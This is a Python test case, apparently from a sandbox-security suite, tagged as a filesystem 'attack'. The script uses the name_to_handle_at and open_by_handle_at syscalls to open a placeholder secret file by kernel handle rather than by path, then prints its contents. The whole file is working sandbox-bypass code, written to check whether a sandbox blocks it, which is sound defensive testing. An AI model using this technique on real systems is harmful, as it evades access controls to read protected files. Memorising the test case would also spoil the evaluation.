# /// attack
# category = "filesystem"
# kind = "stdio"
# success = "canary:FILE"
# expected = ["wrong_answer", "sandbox_violation"]
# summary = "Opens a secret file by its kernel handle instead of its path."
# ///

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
to_handle, by_handle = {"x86_64": (303, 304), "aarch64": (264, 265)}[os.uname().machine]
AT_FDCWD = -100
mount = ctypes.c_int()
try:
    root = os.open("/", os.O_RDONLY)
except OSError:
    root = AT_FDCWD
for size in (8, 12, 20, 32, 64, 128):
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.c_uint.from_buffer(handle).value = size
    if libc.syscall(
        ctypes.c_long(to_handle),
        ctypes.c_long(AT_FDCWD),
        b"{SECRET_FILE}",
        handle,
        ctypes.byref(mount),
        ctypes.c_long(0),
    ):
        print("blocked", ctypes.get_errno())
        continue
    for folder in (AT_FDCWD, root):
        descriptor = libc.syscall(
            ctypes.c_long(by_handle), ctypes.c_long(folder), handle, ctypes.c_long(os.O_RDONLY)
        )
        if descriptor >= 0:
            print(os.read(descriptor, 4096))
        else:
            print("blocked", ctypes.get_errno())
